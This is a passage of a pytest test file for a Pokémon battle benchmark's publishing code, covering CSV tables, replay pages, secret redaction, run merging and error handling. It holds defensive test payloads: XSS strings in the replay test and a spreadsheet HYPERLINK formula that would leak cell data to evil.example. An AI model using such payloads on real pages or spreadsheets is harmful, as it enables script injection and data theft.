"""Publishing: CSVs, replays and input logs, bad input, atomic writes, secrets, the notebook.

The stores are built from synthetic games (no Showdown server): real game specs from the
schedule, short but realistic battle logs and input logs, and LLM decisions for one player.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest

from pokebench.cli.publish import main as publish_main
from pokebench.publish import publish
from pokebench.results import PublishError, load_results
from pokebench.results.figures import FIGURE_COLUMNS, per_player_figures
from pokebench.play.schedule import build_schedule
from pokebench.results.schema import SCHEMA_VERSION, DecisionRow, TABLES, columns, columns_markdown
from pokebench.results.store import RunStore
from pokebench.site.player_facts import player_facts
from pokebench.results.loading import DECISION_FIXED
from pokebench.player.decisions import SHARED_FIELDS, DecisionRecord

from support import stored_run as stored
from support.synthetic_runs import BOTS, ENV_SECRET, REPO, SECRET, make_run

pytestmark = pytest.mark.server  # needs the pinned server set up (make setup)


@pytest.fixture
def runs(tmp_path: Path) -> Path:
    runs_dir = tmp_path / "runs"
    make_run(runs_dir, "mixed", errors=1)
    return runs_dir


def all_text(root: Path) -> str:
    return "\n".join(p.read_text(encoding="utf-8", errors="replace") for p in root.rglob("*") if p.is_file())


# ---- what a publish writes -----------------------------------------------------------------------

def test_publish_writes_csvs_and_input_logs(runs: Path, tmp_path: Path) -> None:
    out = publish(["mixed"], tmp_path / "site", runs_dir=runs, n_bootstrap=50)
    assert out == tmp_path / "site"

    ratings = pd.read_csv(out / "ratings.csv")
    for col in ("rank", "player", "elo", "ci_low", "ci_high", "games", "wins", "ties", "losses", *FIGURE_COLUMNS):
        assert col in ratings.columns
    assert set(ratings["player"]) == {*BOTS, "llm-a"}
    assert list(ratings["rank"]) == [1, 2, 3, 4] and ratings["elo"].is_monotonic_decreasing
    md = ratings.set_index("player").loc["max-damage"]
    assert md["elo"] == md["ci_low"] == md["ci_high"] == 1000
    assert (ratings["ci_low"] <= ratings["elo"]).all() and (ratings["elo"] <= ratings["ci_high"]).all()
    assert (ratings["wins"] + ratings["ties"] + ratings["losses"] == ratings["games"]).all()
    assert ratings.set_index("player")["games"].to_dict() == {p: 12 for p in [*BOTS, "llm-a"]}
    # LLM figures only for the LLM player
    bots = ratings[ratings["player"].isin(BOTS)]
    assert bots[list(FIGURE_COLUMNS)].isna().all().all()
    assert ratings.set_index("player").loc["llm-a", "answers"] > 0

    games = pd.read_csv(out / "games.csv")
    need = ["game_id", "run", "matchup", "pair", "game", "p1", "p2", "winner", "turns", "end_reason",
            "battle_seed", "p1_team_seed", "p2_team_seed", "showdown_version"]
    assert need == [c for c in games.columns if c in need]
    assert len(games) == 6 * 2 * 2 and games["game_id"].is_unique
    assert set(games["winner"]) <= {"p1", "p2", "tie"} and "tie" in set(games["winner"])
    with RunStore.open_existing(runs / "mixed" / "store.sqlite") as store:
        expected = store.games()
        for gid in expected["game_id"]:
            rec = store.record(gid)
            uid = games.set_index("game_id").loc[gid, "uid"]
            assert (out / "inputlogs" / f"{uid}.log").read_text() == "\n".join(rec["input_log"]) + "\n"
            assert (out / "logs" / f"{uid}.log").read_text() == "\n".join(rec["log"]) + "\n"
            assert (out / "replays" / f"{uid}.html").is_file()
    pd.testing.assert_frame_equal(games[need], expected[need], check_dtype=False)
    assert games["uid"].is_unique and (games["copies"] == 1).all()

    h2h = pd.read_csv(out / "h2h.csv")
    assert {"player", "opponent", "wins", "ties", "losses", "games", "win_rate"} <= set(h2h.columns)
    assert len(h2h) == 12 and (h2h["games"] == 4).all()

    dec = pd.read_csv(out / "decisions.csv")
    assert {"game_id", "run", "side", "player", "turn", "action", "reason", "output_tokens", "cost_usd"} <= set(dec.columns)
    assert set(dec["player"]) == {"llm-a"} and set(dec["game_id"]) <= set(games["game_id"])
    assert "api_key" not in dec.columns

    for page in ("index.html", "games.html", "ratings.svg", "cost.svg", "meta.json", "pairs.csv", "players.json"):
        assert (out / page).is_file(), page
    assert sorted(p.name for p in (out / "players").iterdir()) == sorted(f"{p}.html" for p in [*BOTS, "llm-a"])
    assert not list(tmp_path.glob(".site.*")), "temporary folders left behind"


def test_bots_only_give_an_empty_decisions_table(tmp_path: Path) -> None:
    make_run(tmp_path / "runs", "bots", players=BOTS)
    out = publish(["bots"], tmp_path / "site", runs_dir=tmp_path / "runs", n_bootstrap=0)
    assert (out / "decisions.csv").read_text().splitlines() == [",".join(columns(DecisionRow))]
    assert not (out / "cost.svg").exists()


def test_pages_show_players_turns_and_answers_escaped(runs: Path, tmp_path: Path) -> None:
    out = publish(["mixed"], tmp_path / "site", runs_dir=runs, n_bootstrap=20)
    index = (out / "index.html").read_text()
    for player in [*BOTS, "llm-a"]:
        assert f">{player}</a>" in index
    # bots have no LLM figures: their model columns folded into one cell, and a dash for the time; not zeros
    row = index.split(">random</a>")[1].split("</tr>")[0]
    assert 'colspan="4">no model answers</td>' in row and row.count("—") == 1 and "$0" not in row
    llm_row = index.split(">llm-a</a>")[1].split("</tr>")[0]
    assert "$" in llm_row and "%" in llm_row
    assert 'src="ratings.svg"' in index and 'class="h2h"' in index and 'src="cost.svg"' in index

    games = pd.read_csv(out / "games.csv").set_index("game_id")
    gid = "random-vs-llm-a.p0001.g1"
    uid = games.loc[gid, "uid"]
    replay = (out / "replays" / f"{uid}.html").read_text()
    turns = int(games.loc[gid, "turns"])
    for t in range(1, turns + 1):
        assert f'id="turn-{t}"' in replay and f'href="#turn-{t}"' in replay
    assert f'id="turn-{turns + 1}"' not in replay
    assert "Moonblast" in replay and "Calyrex" in replay
    assert f'href="../inputlogs/{uid}.log"' in replay
    assert "Keep attacking on turn 2." in replay and "re-ask" in replay
    assert "&lt;script&gt;alert(&#39;pwned&#39;)&lt;/script&gt;" in replay
    everything = "\n".join(p.read_text() for p in out.rglob("*.html"))
    # the viewer's log block is raw text to the browser (it ends only at `</script`, which it never holds)
    blocks = re.findall(r'<script type="text/plain" class="battle-log-data">(.*?)</script>', everything, re.S)
    assert blocks and not any("</" in b or "<!--" in b for b in blocks)
    outside = re.sub(r'<script type="text/plain" class="battle-log-data">.*?</script>', "", everything, flags=re.S)
    assert "<script>alert" not in outside and "<img src=x" not in outside
    assert "&lt;img src=x onerror=alert(1)&gt;" in replay
    # the mirror game is linked
    partner = games.loc[gid[:-1] + ("2" if gid.endswith("1") else "1"), "uid"]
    assert f'href="{partner}.html"' in replay
    # what the model was sent (collapsible), the raw answer, the invalid answer and the error sent back
    assert "<details class=\"sent\"><summary>What the model was sent</summary>" in replay
    assert "&lt;b&gt;bold?&lt;/b&gt;" in replay and "<b>bold?" not in replay
    assert "Raw answer" in replay and "invalid answer" in replay and "no ACTION line" in replay
    assert "test/model-x-0613" in replay and "$0.0100" in replay and "2.0 s" in replay
    # both team sheets (the synthetic games have none) and the viewer's log block
    assert replay.count("No team recorded.") == 2 and 'class="battle-log-data"' in replay
    # player page: settings without secrets, its games
    llm_page = (out / "players" / "llm-a.html").read_text()
    assert "test/model-x" in llm_page and "<dt>Reasoning</dt><dd>high</dd>" in llm_page and gid in llm_page


def test_a_bots_replay_shows_its_time_per_decision_and_no_model_columns(tmp_path: Path) -> None:
    """The search bot logs its own decisions (time, action; no model): its replay says what it did, not tokens."""
    make_run(tmp_path / "runs", "searched", players=["random", "search", "llm-a"])
    out = publish(["searched"], tmp_path / "site", runs_dir=tmp_path / "runs", n_bootstrap=0, anchor="random")
    games = pd.read_csv(out / "games.csv").set_index("game_id")
    bot = (out / "replays" / f"{games.loc['random-vs-search.p0001.g1', 'uid']}.html").read_text()
    assert "Model calls in this game" not in bot and "tokens in" not in bot and "Answers" not in bot, bot
    table = bot.split("<h2>Bot decisions in this game</h2>", 1)[1].split("</table>", 1)[0]
    turns = int(games.loc["random-vs-search.p0001.g1", "turns"])
    assert re.search(rf"\(search\)</td>\s*<td class=\"num\">{turns}</td><td class=\"num\">76 ms</td>", table), table
    assert bot.count('<div class="usage muted">decided in 76 ms</div>') == turns
    # beside a model, each side gets its own table: the model's calls, the bot's time
    mixed = (out / "replays" / f"{games.loc['search-vs-llm-a.p0001.g1', 'uid']}.html").read_text()
    calls = mixed.split("<h2>Model calls in this game</h2>", 1)[1].split("</table>", 1)[0]
    assert "(llm-a)" in calls and "(search)" not in calls, calls
    assert "(search)" in mixed.split("<h2>Bot decisions in this game</h2>", 1)[1].split("</table>", 1)[0]
    assert "decided in 76 ms" in mixed and "tokens in 1,002 (cached 800)" in mixed
    # the games table: no tokens nor re-asks for a game of bots, only the model's calls beside one
    rows = dict(re.findall(r'data-uid="([0-9a-f]+)">(.*?)</tr>', (out / "games.html").read_text(), re.S))
    decisions = pd.read_csv(out / "decisions.csv")
    for game_id, uid in games["uid"].items():
        tokens, _, reasks = re.findall(r'<td class="num">([^<]*)</td>', rows[uid])[-3:]
        calls = decisions[(decisions["uid"] == uid) & decisions["model"].notna()]
        if "llm-a" in game_id:
            assert tokens == f"{int(calls.input_tokens.sum()):,} / {int(calls.output_tokens.sum()):,}", game_id
            assert reasks == str(int(calls.reask.sum())), game_id
        else:
            assert (tokens, reasks) == ("—", "—"), game_id
    # the leaderboard: the search bot saved no model's answers, whatever decisions it logged; the model did
    ratings = pd.read_csv(out / "ratings.csv").set_index("player")
    assert pd.isna(ratings.loc["search", "answers"]) and ratings.loc["llm-a", "answers"] > 0
    leaderboard = (out / "index.html").read_text().split("</table>", 1)[0]
    search_row = leaderboard.split('players/search.html', 1)[1].split("</tr>", 1)[0]
    assert 'colspan="4">no model answers</td>' in search_row, search_row


def test_pages_of_bots_alone_have_no_model_columns(tmp_path: Path) -> None:
    """A bot's page and a run of bots listed 'Tokens in / out', 'Cost' and 'Re-asks' for every game, all '—'."""
    make_run(tmp_path / "runs", "bots", players=BOTS)
    out = publish(["bots"], tmp_path / "site", runs_dir=tmp_path / "runs", n_bootstrap=0)
    for page in [out / "games.html", *(out / "players").iterdir()]:
        html = page.read_text()
        assert "Tokens in / out" not in html and "only-reasks" not in html and "Re-asks" not in html, page
        assert 'class="games sortable"' in html, page
    make_run(tmp_path / "runs", "mixed", pairs=1)  # beside a model the columns stay, on a bot's page too
    out = publish(["mixed"], tmp_path / "mixed", runs_dir=tmp_path / "runs", n_bootstrap=0)
    for page in (out / "games.html", out / "players" / "random.html"):
        assert "Tokens in / out" in page.read_text() and "only-reasks" in page.read_text(), page


def test_a_bots_page_lists_its_settings_as_played_once() -> None:
    """The search bot reports the settings it played with (`search`); where the run config says otherwise (its
    time per decision, unused under an iteration budget), the page says what was played, each setting once."""
    info = {"player": "search", "kind": "bot", "settings": {
        "class": "SearchBot", "config.class": "pokebench.players.search.SearchBot", "config.decision_ms": 200,
        "config.iterations": 2000, "config.early_samples": 0, "config.workers": None, "searches_with_engine": True,
        "search": {"decision_ms": 0, "iterations": 2000, "early_samples": 1, "seeded": False}}}
    assert player_facts(info)["other"] == [("decision_ms", "0"), ("early_samples", "1"), ("iterations", "2000"),
                                           ("searches_with_engine", "yes"), ("seeded", "no"), ("workers", "—")]


def test_secrets_never_reach_the_site(runs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("POKEBENCH_TEST_API_KEY", ENV_SECRET)
    monkeypatch.setenv("SOME_TOKEN", ENV_SECRET + "2")
    # even if a value slips into a field with an innocent name, the env guard blanks it
    make_run(tmp_path / "runs2", "leaky", players=["max-damage", "llm-a"], pairs=1)
    with RunStore.open_existing(tmp_path / "runs2" / "leaky" / "store.sqlite") as store:
        store.db.execute("UPDATE decisions SET data = json_set(data, '$.reason', ?)", (f"my key is {ENV_SECRET}",))
    out = publish(["mixed"], tmp_path / "site", runs_dir=runs, n_bootstrap=10)
    out2 = publish(["leaky"], tmp_path / "site2", runs_dir=tmp_path / "runs2", n_bootstrap=10)
    for root in (out, out2):
        text = all_text(root)
        assert SECRET not in text and ENV_SECRET not in text
        assert "api_key" not in text and "auth_token" not in text and "POKEBENCH_TEST_API_KEY" not in text
    assert "[redacted]" in all_text(out2)
    assert "output_tokens" in (out / "decisions.csv").read_text().splitlines()[0]


def test_per_player_figures_follow_the_method() -> None:
    games = pd.DataFrame({"game_id": ["g1", "g2", "g3"], "p1": ["llm", "bot", "llm"], "p2": ["bot", "llm", "bot"],
                          "winner": ["p1", "p1", "tie"]})
    dec = pd.DataFrame([
        # g1: an answer without a legal action, its re-ask; a refused choice; a normal answer
        dict(game_id="g1", player="llm", model="m", side="p1", decision=1, output_tokens=50, reasoning_tokens=40, cost_usd=0.01, latency_s=1.0, reask=False, random_pick=False),
        dict(game_id="g1", player="llm", model="m", side="p1", decision=1, output_tokens=150, reasoning_tokens=100, cost_usd=0.03, latency_s=3.0, reask=True, random_pick=False),
        dict(game_id="g2", player="llm", model="m", side="p2", decision=1, output_tokens=100, reasoning_tokens=0, cost_usd=0.02, latency_s=2.0, reask=False, random_pick=False),
        # a random pick after failed answers: no usage saved
        dict(game_id="g2", player="llm", model="m", side="p2", decision=2, output_tokens=np.nan, reasoning_tokens=np.nan, cost_usd=np.nan, latency_s=np.nan, reask=False, random_pick=True),
        dict(game_id="gX", player="llm", model="m", side="p1", decision=1, output_tokens=10**6, cost_usd=99.0, latency_s=99.0),  # not a finished game
    ])
    fig = per_player_figures(games, dec).set_index("player")
    assert fig.loc["llm", ["games", "wins", "ties", "losses"]].tolist() == [3, 1, 1, 1]
    assert fig.loc["bot", ["games", "wins", "ties", "losses"]].tolist() == [3, 1, 1, 1]
    assert fig.loc["llm", "answers"] == 4
    assert fig.loc["llm", "cost_per_game"] == pytest.approx(0.06 / 3)  # one side of one game
    assert fig.loc["llm", "output_tokens_per_decision"] == pytest.approx(300 / 3)  # reasoning not added again
    assert fig.loc["llm", "seconds_per_decision"] == pytest.approx(2.0)
    assert fig.loc["llm", "reask_rate"] == pytest.approx(1 / 4)
    assert fig.loc["llm", "random_pick_rate"] == pytest.approx(1 / 3)  # of 3 decisions (4 answers)
    assert fig.loc["bot", list(FIGURE_COLUMNS)].isna().all()
    # every answer names no legal action: 3 answers then a random pick, for each of 2 decisions
    empty = pd.DataFrame([dict(game_id="g1", player="llm", model="m", side="p1", decision=d, reask=a > 0, random_pick=a == 2)
                          for d in (1, 2) for a in range(3)])
    rates = per_player_figures(games, empty).set_index("player")
    assert rates.loc["llm", "random_pick_rate"] == 1.0 and rates.loc["llm", "reask_rate"] == pytest.approx(4 / 6)
    # missing columns are missing figures, not zeros
    sparse = per_player_figures(games, dec[["game_id", "player", "output_tokens"]]).set_index("player")
    assert sparse.loc["llm", "output_tokens_per_decision"] == pytest.approx(100)
    assert sparse.loc["llm", ["cost_per_game", "seconds_per_decision", "reask_rate", "random_pick_rate"]].isna().all()
    assert per_player_figures(games, pd.DataFrame())[list(FIGURE_COLUMNS)].isna().all().all()
    # a request that ended in an error (cut off by a stop; a context too long) is a row, not an answer
    failed = pd.concat([dec.assign(extra="{}"), pd.DataFrame([dict(game_id="g3", player="llm", model="m", side="p1",
                                                                   decision=1, extra='{"error": "context_length"}')])])
    assert per_player_figures(games, failed).set_index("player").loc["llm", "answers"] == 4


# ---- merging runs -----------------------------------------------------------------------------

def test_merging_runs_keeps_uids_unique_and_stable(tmp_path: Path) -> None:
    runs = tmp_path / "runs"
    make_run(runs, "a", players=BOTS, pairs=1)
    make_run(runs, "b", players=["max-damage", "llm-a"], pairs=2)
    make_run(runs, "a2", players=BOTS, pairs=1)  # same matchups and pairs as "a", other seeds: ids collide
    alone = pd.read_csv(publish(["a"], tmp_path / "a", runs_dir=runs, n_bootstrap=10) / "games.csv")
    out = publish(["a", "a2", "b"], tmp_path / "all", runs_dir=runs, n_bootstrap=10)
    games = pd.read_csv(out / "games.csv")
    assert len(games) == 6 + 6 + 4 and games["uid"].is_unique and not games["game_id"].is_unique
    assert (games["copies"] == 1).all()
    # a game's uid is the same whatever it is published with
    merged = games[games["run"] == "a"].set_index("game_id")["uid"]
    assert merged.to_dict() == alone.set_index("game_id")["uid"].to_dict()
    dec = pd.read_csv(out / "decisions.csv")
    assert set(dec["uid"]) <= set(games["uid"]) and set(dec["run"]) == {"b"}
    assert all((out / "inputlogs" / f"{uid}.log").is_file() for uid in games["uid"])
    assert set(pd.read_csv(out / "ratings.csv")["player"]) == {*BOTS, "llm-a"}


def test_runs_that_give_one_name_to_two_players_are_not_published_together(tmp_path: Path) -> None:
    """bots-calibration's `search` (2,000 iterations) and bots-search's (200 ms) were once rated as one player."""
    runs = tmp_path / "runs"
    make_run(runs, "a", players=BOTS, pairs=1)
    make_run(runs, "b", players=BOTS, pairs=1)
    with RunStore(runs / "b" / "store.sqlite") as store:
        row = store.db.execute("SELECT value FROM meta WHERE key = 'fingerprint'").fetchone()
        fingerprint = json.loads(row[0])
        fingerprint["players"]["max-damage"]["epsilon"] = 0.1
        store.db.execute("UPDATE meta SET value = ? WHERE key = 'fingerprint'", (json.dumps(fingerprint),))
        store.db.commit()
    with pytest.raises(PublishError, match=r"player 'max-damage' has other settings in run 'b' than in run 'a' "
                                           r"\(epsilon: None in 'a', 0.1 in 'b'\).*Publish the runs apart"):
        publish(["a", "b"], tmp_path / "both", runs_dir=runs, n_bootstrap=0)
    for name in ("a", "b"):  # each alone is one player under each name
        assert (publish([name], tmp_path / name, runs_dir=runs, n_bootstrap=0) / "ratings.csv").is_file()


def test_two_identical_bot_runs_merged_count_each_game_once(tmp_path: Path) -> None:
    runs = tmp_path / "runs"
    for name in ("first", "second"):  # deterministic bots, same seed text: the same games
        make_run(runs, name, players=BOTS, pairs=2, run="bots", seed_text="same-seeds")
    single = publish(["first"], tmp_path / "one", runs_dir=runs, n_bootstrap=20)
    both = publish(["first", "second"], tmp_path / "both", runs_dir=runs, n_bootstrap=20)
    g1, g2 = pd.read_csv(single / "games.csv"), pd.read_csv(both / "games.csv")
    assert len(g2) == len(g1) == 12 and (g2["copies"] == 2).all() and (g1["copies"] == 1).all()
    meta = json.loads((both / "meta.json").read_text())
    assert meta["duplicates_merged"] == 12 and meta["games"] == 12
    pd.testing.assert_frame_equal(pd.read_csv(single / "ratings.csv"), pd.read_csv(both / "ratings.csv"))
    assert "12 copies of identical games in several runs counted once" in (both / "index.html").read_text()


def test_identical_runs_publish_byte_identical_games(tmp_path: Path) -> None:
    outs = []
    for k in range(2):
        runs = tmp_path / f"machine{k}" / "runs"
        make_run(runs, "bots", players=BOTS, pairs=2, seed_text="same-seeds")
        outs.append(publish(["bots"], tmp_path / f"machine{k}" / "site", runs_dir=runs, n_bootstrap=20))
    for name in ("games.csv", "ratings.csv", "pairs.csv", "h2h.csv", "meta.json", "players.json"):
        assert (outs[0] / name).read_bytes() == (outs[1] / name).read_bytes(), name
    for sub in ("inputlogs", "logs", "teams", "replays"):
        assert snapshot(outs[0] / sub) == snapshot(outs[1] / sub), sub


def test_the_same_game_id_as_different_games_in_two_stores_is_refused(tmp_path: Path) -> None:
    runs = tmp_path / "runs"
    make_run(runs, "big", players=BOTS, pairs=1, store="shard-0-of-2.sqlite", seed_text="one")
    make_run(runs, "big", players=BOTS, pairs=1, store="shard-1-of-2.sqlite", seed_text="other")
    with pytest.raises(PublishError, match="more than one store"):
        publish(["big"], tmp_path / "site", runs_dir=runs)
    assert not (tmp_path / "site").exists()


def test_a_partial_shard_publish_is_marked_on_every_page_and_in_meta(tmp_path: Path) -> None:
    runs = tmp_path / "runs"
    make_run(runs, "big", players=BOTS, pairs=3, store="shard-0-of-2.sqlite", only_pairs=[2], seed_text="s")
    out = publish(["big"], tmp_path / "site", runs_dir=runs, n_bootstrap=10)
    meta = json.loads((out / "meta.json").read_text())
    assert meta["partial"] is True
    reasons = meta["runs"][0]["partial_reasons"]
    assert any("shard 1 of 2" in r for r in reasons) and any("not played" in r for r in reasons)
    pages = list(out.rglob("*.html"))
    assert len(pages) > 5 and all("Partial results." in p.read_text() for p in pages)
    # the other shard completes the run: no longer partial
    make_run(runs, "big", players=BOTS, pairs=3, store="shard-1-of-2.sqlite", only_pairs=[1, 3], seed_text="s")
    out = publish(["big"], tmp_path / "site", runs_dir=runs, n_bootstrap=10)
    assert json.loads((out / "meta.json").read_text())["partial"] is False
    assert "Partial results." not in (out / "index.html").read_text()


def test_a_whole_run_started_again_as_a_shard_is_not_partial(tmp_path: Path) -> None:
    """A run played whole and then started as shard 0 of 2 (which finds its games stored and plays none, but
    leaves its own empty store) was published as partial: "shard 1 of 2 not published (no store)"."""
    runs = tmp_path / "runs"
    make_run(runs, "big", players=BOTS, pairs=3, seed_text="s")
    make_run(runs, "big", players=BOTS, pairs=3, store="shard-0-of-2.sqlite", games=False, seed_text="s")
    meta = json.loads((publish(["big"], tmp_path / "site", runs_dir=runs, n_bootstrap=10) / "meta.json").read_text())
    assert meta["partial"] is False, meta["runs"][0]["partial_reasons"]


def test_pairs_table_counts_mirror_pair_splits(runs: Path, tmp_path: Path) -> None:
    out = publish(["mixed"], tmp_path / "site", runs_dir=runs, n_bootstrap=10)
    pairs = pd.read_csv(out / "pairs.csv").set_index("matchup")
    games = pd.read_csv(out / "games.csv")
    assert list(pairs.reset_index().columns) == columns(TABLES["pairs.csv"])
    assert len(pairs) == 6 and (pairs["pairs"] == 2).all()
    assert (pairs[["a_2_0", "split_1_1", "b_2_0", "with_ties", "incomplete"]].sum(axis=1) == 2).all()
    # recount one matchup by hand from games.csv
    m = games[games["matchup"] == "random-vs-heuristic"]
    scores = {k: sum((w == "p1") == (p1 == "random") for w, p1 in zip(g["winner"], g["p1"]))
              for k, g in m.groupby("pair") if "tie" not in set(g["winner"])}
    row = pairs.loc["random-vs-heuristic"]
    assert (row["a_2_0"], row["split_1_1"], row["b_2_0"]) == tuple(
        sum(v == n for v in scores.values()) for n in (2, 1, 0))
    assert "Mirror pairs" in (out / "index.html").read_text()
    assert "Won 2–0" in (out / "players" / "random.html").read_text()


# ---- the contract ---------------------------------------------------------------------------------

def test_published_folder_carries_its_contract(runs: Path, tmp_path: Path) -> None:
    out = publish(["mixed"], tmp_path / "site", runs_dir=runs, n_bootstrap=30, seed=7)
    meta = json.loads((out / "meta.json").read_text())
    assert meta["schema_version"] == SCHEMA_VERSION
    assert meta["bootstrap"] == {"samples": 30, "seed": 7, "level": 0.95, "unit": "mirror pair"}
    assert meta["anchor"] == "max-damage" and meta["prior_sd"] == 800 and meta["partial"] is False
    assert [r["name"] for r in meta["runs"]] == ["mixed"] and meta["runs"][0]["harness_errors"] == 1
    assert meta["showdown_versions"] == ["0.11.11-test"] and "posterior" in meta["interval_rule"]
    # every table has exactly its documented columns
    for name, model in TABLES.items():
        if name.endswith(".csv"):
            assert (out / name).read_text().splitlines()[0] == ",".join(columns(model)), name
    players = json.loads((out / "players.json").read_text())
    llm = next(p for p in players if p["player"] == "llm-a")
    assert llm["kind"] == "llm" and llm["settings"]["model"] == "test/model-x" and llm["counters"]["decisions"] > 0
    assert "decisions" not in llm["settings"] and "api_key" not in json.dumps(players)
    # the run config's settings: prices and their date, no secret
    assert llm["settings"]["config.model.prices.input"] == 3.0
    assert llm["settings"]["config.model.prices.read_on"] == "2026-10-01"
    # integers as integers, UTC timestamps with Z
    games = (out / "games.csv").read_text()
    assert ".0," not in games.splitlines()[1]
    g = pd.read_csv(out / "games.csv")
    assert g["started_at"].str.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z").all()
    assert g["ended_at"].iloc[0] == "2026-10-06T12:00:00.000Z"
    dec = pd.read_csv(out / "decisions.csv", dtype=str, keep_default_na=False)
    assert set(dec["turn"]) <= {str(t) for t in range(1, 10)}
    extra = json.loads(dec[dec["extra"].str.contains("sent")]["extra"].iloc[0])
    assert extra["sent"].startswith("YOUR LEGAL ACTIONS") and "api_key" not in extra
    # and it reads back through the package's API
    back = load_results(out)
    assert back.meta.bootstrap.seed == 7 and back.games["turns"].dtype == "int64"
    assert back.decisions["turn"].dtype == "Int64"


def test_docs_list_every_published_column() -> None:
    docs = (REPO / "docs" / "results.md").read_text(encoding="utf-8")
    generated = docs.split("<!-- columns: generated by pokebench.cli.columns -->")[1].split(
        "<!-- end of columns -->")[0]
    assert generated.strip() == columns_markdown().strip(), (
        "docs/results.md is out of date: run `python -m pokebench.cli.columns` and paste its output")
    for name, model in TABLES.items():
        assert f"### {name}" in docs
        for col in columns(model):
            assert f"| `{col}` |" in generated, (name, col)


def test_an_older_folder_gets_a_clear_message(runs: Path, tmp_path: Path) -> None:
    out = publish(["mixed"], tmp_path / "site", runs_dir=runs, n_bootstrap=5)
    meta = json.loads((out / "meta.json").read_text())
    (out / "meta.json").write_text(json.dumps(meta | {"schema_version": 0}))
    with pytest.raises(PublishError, match=rf"schema 0; this PokéBench reads schema {SCHEMA_VERSION}\. Publish its runs again"):
        load_results(out)
    (out / "meta.json").write_text(json.dumps(meta | {"schema_version": SCHEMA_VERSION + 1}))
    with pytest.raises(PublishError, match="Upgrade PokéBench"):
        load_results(out)
    (out / "meta.json").unlink()
    with pytest.raises(PublishError, match="before the results had a versioned contract"):
        load_results(out)


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    make_run(tmp_path / "runs", "f", players=["max-damage", "llm-a"], pairs=1, reason=formula)
    out = publish(["f"], tmp_path / "site", runs_dir=tmp_path / "runs", n_bootstrap=5)
    cells = pd.read_csv(out / "decisions.csv", dtype=str, keep_default_na=False)
    assert not cells.apply(lambda col: col.str.match(r"[=+\-@\t\r]")).any().any()
    assert ("'" + formula) in set(cells["reason"])
    assert formula in set(load_results(out).decisions["reason"])  # the API gives the text as it was


def test_the_site_builds_from_a_copied_folder_with_no_store(runs: Path, tmp_path: Path) -> None:
    from pokebench.site import build_site

    out = publish(["mixed"], tmp_path / "site", runs_dir=runs, n_bootstrap=10)
    import shutil

    copy = tmp_path / "elsewhere" / "copy"
    shutil.copytree(out, copy)
    shutil.rmtree(runs)
    for page in [*copy.rglob("*.html"), copy / "ratings.svg"]:
        page.unlink()
    build_site(copy)
    assert snapshot(copy) == snapshot(out)


# ---- bad input: clear message, exit code 2, nothing written ---------------------------------------

def bad_runs(runs: Path) -> None:
    make_run(runs, "empty", games=False)
    make_run(runs, "errors-only", games=False, errors=3)
    make_run(runs, "solo", players=["max-damage"], matchups=[], pairs=1)
    with RunStore.open_existing(runs / "solo" / "store.sqlite") as store:  # one player against itself
        spec = build_schedule("solo", "s", 1, [("max-damage", "random")])[0]
        spec = type(spec)(**{**spec.__dict__, "p2": "max-damage", "matchup": "max-damage-vs-max-damage"})
        store.save_game(spec, {"winner": "p1", "turns": 1, "end_reason": "normal", "showdown_version": "x",
                               "input_log": [], "log": []}, {}, "2026-10-06T00:00:00Z")
    make_run(runs, "islands", players=["max-damage", "random", "lonely-a", "lonely-b"], pairs=1,
             matchups=[("max-damage", "random"), ("lonely-a", "lonely-b")])
    make_run(runs, "no-anchor", players=["random", "heuristic"], pairs=1)
    make_run(runs, "good", players=BOTS, pairs=1)


BAD = [
    (["nope"], "there is no run named 'nope'"),
    (["runs/good"], "not a path"),
    (["empty"], "has no finished games yet. Play it first (`"),
    # no run file is named errors-only: `+run=errors-only` would not start (it used to be what was said)
    (["errors-only"], "only 3 harness error(s) (stall ×3). Harness errors are never results: start the run again "
                      f"(`{sys.executable} -m pokebench +run=RUN name=errors-only`, RUN the file of conf/run/ it was "
                      "played from)"),
    (["solo"], "one player"),
    (["islands"], "never met"),
    (["no-anchor"], "--anchor PLAYER"),
    (["good", "empty"], "run 'empty' has no finished games"),
    (["good", "no-anchor"], "several runs need --out"),
]


@pytest.mark.parametrize("names, message", BAD, ids=[n[0][-1] + ("+" if len(n[0]) > 1 else "") for n in BAD])
def test_bad_input_gives_a_clear_message(tmp_path: Path, capsys: pytest.CaptureFixture, names: list[str],
                                         message: str, monkeypatch: pytest.MonkeyPatch) -> None:
    runs = tmp_path / "runs"
    bad_runs(runs)
    monkeypatch.chdir(tmp_path)
    out_args = ["--out", str(tmp_path / "site")] if len(names) > 1 and "no-anchor" not in names else []
    code = publish_main([*names, "--runs-dir", str(runs), "--bootstrap", "5", *out_args])
    err = capsys.readouterr().err
    assert code == 2
    assert message in err, err
    assert "Traceback" not in err
    assert not (tmp_path / "site").exists() and not (tmp_path / "data").exists()
    assert not [p for p in tmp_path.rglob(".*tmp-*")]


def test_command_line_exit_code_and_output(tmp_path: Path) -> None:
    runs = tmp_path / "runs"
    make_run(runs, "good", players=BOTS, pairs=1)
    make_run(runs, "no-anchor", players=["random", "heuristic"], pairs=1)
    env = {k: v for k, v in os.environ.items()}
    cmd = [sys.executable, "-m", "pokebench.cli.publish", "--runs-dir", str(runs), "--bootstrap", "5"]
    bad = subprocess.run([*cmd, "no-anchor"], cwd=tmp_path, env=env, capture_output=True, text=True)
    assert bad.returncode == 2 and "--anchor PLAYER" in bad.stderr and "Traceback" not in bad.stderr
    assert not (tmp_path / "data" / "site" / "no-anchor").exists()
    ok = subprocess.run([*cmd, "no-anchor", "--anchor", "random"], cwd=tmp_path, env=env, capture_output=True, text=True)
    assert ok.returncode == 0, ok.stderr
    ratings = pd.read_csv(tmp_path / "data" / "site" / "no-anchor" / "ratings.csv").set_index("player")
    assert ratings.loc["random", "elo"] == 1000


# ---- atomic writes -------------------------------------------------------------------------------

def snapshot(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def test_failed_publish_leaves_the_old_site_intact(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    runs = tmp_path / "runs"
    make_run(runs, "good", players=BOTS, pairs=1)
    make_run(runs, "no-anchor", players=["random", "heuristic"], pairs=1)
    site = tmp_path / "site"
    publish(["good"], site, runs_dir=runs, n_bootstrap=5)
    before = snapshot(site)

